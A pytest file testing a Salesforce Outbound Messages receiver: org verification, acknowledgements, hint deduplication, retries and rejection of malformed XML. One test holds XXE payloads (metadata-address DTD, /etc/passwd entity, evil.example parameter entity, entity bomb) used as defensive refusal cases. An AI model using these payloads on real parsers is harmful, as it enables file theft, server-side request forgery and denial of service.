"""Outbound Messages: what is believed, what is refused, what is kept."""

import random
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from integrations.crm.salesforce.contract import Outbound
from integrations.crm.salesforce.ids import canonical_id
from integrations.crm.salesforce.tests.conftest import NOON
from integrations.crm.salesforce.vendor import SalesforceVendor
from integrations.crm.vendor import HintKind, Secrets, Unreadable

VENDOR = SalesforceVendor()
ACK = b"<Ack>true</Ack>"


@pytest.fixture
def sent(org):
    """The bodies that the org would send, by what happens to its accounts."""

    def accept(address: str, body: bytes) -> tuple[int, str, bytes]:
        answer = VENDOR.answer(True)
        return answer.status, answer.content_type, answer.body

    return Outbound(org.records, "http://portal.invalid/", send=accept)


@pytest.fixture
def body(org, sent) -> bytes:
    """A message about one account."""
    org.records.create(Name="Acme", ACV__c=Decimal("31000"))
    sent.deliver()
    return sent.sent[0].body


def refusal(body: bytes, account_id: str, method: str = "POST"):
    return VENDOR.verified(
        Secrets({}),
        {"account_id": account_id},
        method=method,
        url="https://portal.example/crm/salesforce/token/",
        headers={"Content-Type": "text/xml; charset=utf-8"},
        body=body,
        now=NOON,
    )


def test_a_message_of_the_connected_org_is_accepted_and_acknowledged(org, body):
    assert refusal(body, org.org_id) is None

    answer = VENDOR.answer(True)
    assert answer.status == 200
    assert answer.content_type.startswith("text/xml")
    assert ACK in answer.body


def test_what_could_not_be_stored_is_not_acknowledged():
    answer = VENDOR.answer(False)

    assert answer.status == 503
    assert ACK not in answer.body


def test_the_org_may_stand_in_its_short_form_on_either_side(org, body):
    short = body.replace(org.org_id.encode(), org.org_id[:15].encode())

    assert refusal(short, org.org_id) is None
    assert refusal(body, org.org_id[:15]) is None
    assert refusal(short, org.org_id[:15]) is None


@pytest.mark.parametrize(
    "account_id", ["", "00D2w000003xKLNEA2", "00d2w000003xklm", "nonsense", None]
)
def test_a_message_of_another_org_is_refused(org, body, account_id):
    if account_id is None:
        account_id = canonical_id(org.org_id[:14] + org.org_id[14].lower())

    assert refusal(body, account_id).status == 401


def test_a_get_is_refused(org, body):
    assert refusal(body, org.org_id, "GET").status == 405


def test_a_hint_names_the_account_the_notification_and_the_moment(org, sent, body):
    [hint] = VENDOR.hints(body, {})
    [account] = org.records.accounts

    assert hint.object_id == account
    assert hint.kind == HintKind.CHANGED
    assert hint.dedupe_key.startswith(sent.sent[0].notification_ids[0] + ":")
    assert hint.occurred_at == NOON
    assert hint.field == "ACV__c"
    assert hint.summary == "ACV__c = 31000.0"


def test_a_hundred_notifications_of_one_message_are_a_hundred_hints(org, sent):
    accounts = [org.records.create(Name=f"Account {n}") for n in range(130)]

    sent.deliver()

    hints = [VENDOR.hints(body, {}) for body in (one.body for one in sent.sent)]
    assert [len(one) for one in hints] == [100, 30]
    assert {hint.object_id for one in hints for hint in one} == set(accounts)
    assert len({hint.dedupe_key for one in hints for hint in one}) == 130


def test_more_than_a_hundred_are_no_message(org, body):
    start, end = body.index(b"<Notification>"), body.index(b"</notifications>")
    many = body[:start] + body[start:end] * 101 + body[end:]

    assert refusal(many, org.org_id).status == 400


def test_the_same_notification_twice_is_one_hint(body):
    start, end = body.index(b"<Notification>"), body.index(b"</notifications>")

    assert len(VENDOR.hints(body[:end] + body[start:end] + body[end:], {})) == 1


def test_a_notification_that_comes_again_is_known_unless_it_says_something_newer(org, clock):
    answers = [(500, "text/plain", b"")] * 2
    outbound = Outbound(
        org.records,
        "http://portal.invalid/",
        send=lambda address, body: answers.pop() if answers else (200, "text/xml", ACK),
    )
    account = org.records.create(Name="Acme", ACV__c=Decimal("1"))
    outbound.deliver()
    clock.advance(minutes=1)
    outbound.deliver()
    clock.advance(minutes=5)
    org.records.update(account, silently=True, ACV__c=Decimal("2"))
    outbound.deliver()

    first, again, newer = (VENDOR.hints(one.body, {})[0] for one in outbound.sent)
    assert len({one.notification_ids for one in outbound.sent}) == 1
    assert first == again
    assert newer.dedupe_key != first.dedupe_key
    assert newer.summary == "ACV__c = 2.0"
    assert len(newer.dedupe_key) <= 100


def test_short_ids_of_accounts_become_long_ones(org, body):
    [account] = org.records.accounts
    short = body.replace(account.encode(), account[:15].encode())

    assert VENDOR.hints(short, {})[0].object_id == account


def test_a_message_about_contacts_is_kept_in_the_ledger_alone(body):
    [hint] = VENDOR.hints(body.replace(b"sf:Account", b"sf:Contact"), {})

    assert hint.kind == HintKind.IGNORED
    assert hint.object_id == ""
    assert "Contact" in hint.summary


def test_the_session_id_is_not_kept_and_repetitions_look_the_same(org, sent):
    org.records.create(Name="Acme", ACV__c=Decimal("31000"))
    sent.with_session = True
    with_session = sent.envelope(sent.queue)
    sent.with_session = False
    without = sent.envelope(sent.queue)
    assert b"session.of.the.sender" in with_session

    kept = VENDOR.storable(with_session)

    assert b"session.of.the.sender" not in kept
    assert kept == VENDOR.storable(with_session.replace(b"AQ.session", b"AQ.another"))
    assert VENDOR.hints(kept, {}) == VENDOR.hints(without, {}) == VENDOR.hints(with_session, {})
    assert refusal(kept, org.org_id) is None


def entity_bomb() -> bytes:
    lines = ['<!ENTITY a0 "ha">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)]
    return f"<!DOCTYPE bomb [{''.join(lines)}]>".encode()


@pytest.mark.parametrize(
    "prologue",
    [
        b"<!DOCTYPE soapenv:Envelope>",
        b'<!DOCTYPE x SYSTEM "http://169.254.169.254/latest/meta-data/">',
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>',
        entity_bomb(),
    ],
    ids=["empty", "system", "file", "parameter", "bomb"],
)
def test_a_document_type_is_refused_whatever_it_says(org, body, prologue):
    declaration, _, rest = body.partition(b"?>")
    evil = declaration + b"?>" + prologue + rest

    refused = refusal(evil, org.org_id)

    assert refused.status == 400
    assert "document type" in refused.reason
    with pytest.raises(Unreadable):
        VENDOR.hints(evil, {})


@pytest.mark.parametrize(
    "wrong",
    [
        b"",
        b"\x00\xff",
        b"[]",
        b"<a/>",
        b'<?xml version="1.0" encoding="no-such-encoding"?><a/>',
        b"<a>" * 5_000,
        b"<a>" * 9 + b"<b/>" * 100_001 + b"</a>" * 9,
        b"<a>" + b"x" * 1_000_001 + b"</a>",
        "<a>ü</a>".encode("utf-16")[:-1],
    ],
    ids=["empty", "bytes", "json", "other", "encoding", "deep", "long", "large", "cut"],
)
def test_what_is_no_message_is_refused_and_never_breaks(org, wrong):
    assert refusal(wrong, org.org_id).status == 400
    with pytest.raises(Unreadable):
        VENDOR.hints(wrong, {})


@pytest.mark.parametrize(
    ("part", "instead"),
    [
        (b"<sf:Id>", b"<sf:Key>"),
        (b"http://soap.sforce.com/2005/09/outbound", b"http://other.example"),
        (b"<OrganizationId>", b"<OrganizationId>x"),
        (b"<Notification><Id>", b"<Notification><Id/><Id>"),
    ],
)
def test_a_message_with_a_part_missing_is_refused(org, body, part, instead):
    close = {b"<sf:Id>": (b"</sf:Id>", b"</sf:Key>")}.get(part, (b"", b""))

    assert refusal(body.replace(part, instead).replace(*close), org.org_id).status == 400


def test_a_message_without_a_stamp_says_no_moment(org, sent):
    sent.fields = ("ACV__c", "Seats__c")
    org.records.create(Name="Acme", ACV__c=Decimal("1"), Seats__c=Decimal("2"))
    sent.deliver()

    [hint] = VENDOR.hints(sent.sent[0].body, {})

    assert hint.occurred_at is None
    assert hint.field == ""
    assert hint.summary == "ACV__c = 1.0, Seats__c = 2.0"


def test_values_with_markup_are_text(org, sent):
    sent.fields = ("Name",)
    org.records.create(Name="<b>Ham & Eggs</b>\n Ltd")
    sent.deliver()

    [hint] = VENDOR.hints(sent.sent[0].body, {})

    assert hint.summary == "Name = <b>Ham & Eggs</b> Ltd"


def test_unacknowledged_messages_come_again_later_and_later_for_a_day(org, clock):
    answers = [(500, "text/plain", b"")] * 3 + [(200, "text/html", ACK), (200, "text/xml", b"")]

    def send(address: str, body: bytes) -> tuple[int, str, bytes]:
        return answers.pop(0) if answers else (0, "", b"")

    outbound = Outbound(org.records, "http://portal.invalid/", send=send)
    org.records.create(Name="Acme")
    attempts = 0
    while outbound.queue and attempts < 60:
        attempts += 1
        outbound.deliver()
        clock.instant = max(clock.instant, outbound.queue[0].due_at) if outbound.queue else NOON

    assert [one.acknowledged for one in outbound.sent] == [False] * len(outbound.sent)
    assert len(outbound.given_up) == 1
    assert 15 < len(outbound.sent) < 30


def test_the_order_of_messages_says_nothing_and_each_holds_the_newest_values(org, sent):
    accounts = [org.records.create(Name=f"Account {n}") for n in range(20)]
    for account in accounts:
        org.records.update(account, ACV__c=Decimal("2"))
    sent.shuffle = random.Random(7)

    sent.deliver(most=7)

    hints = [hint for body in (one.body for one in sent.sent) for hint in VENDOR.hints(body, {})]
    assert len(hints) == 40
    assert {hint.summary for hint in hints} == {"ACV__c = 2.0"}
    keys = [hint.dedupe_key for hint in hints]
    assert keys != sorted(keys)


def test_the_moment_is_read_in_any_zone(body):
    moved = body.replace(b"2026-11-02T12:00:00.000Z", b"2026-11-02T14:30:00.000+02:00")

    [hint] = VENDOR.hints(moved, {})

    assert hint.occurred_at == datetime(2026, 11, 2, 12, 30, tzinfo=UTC)
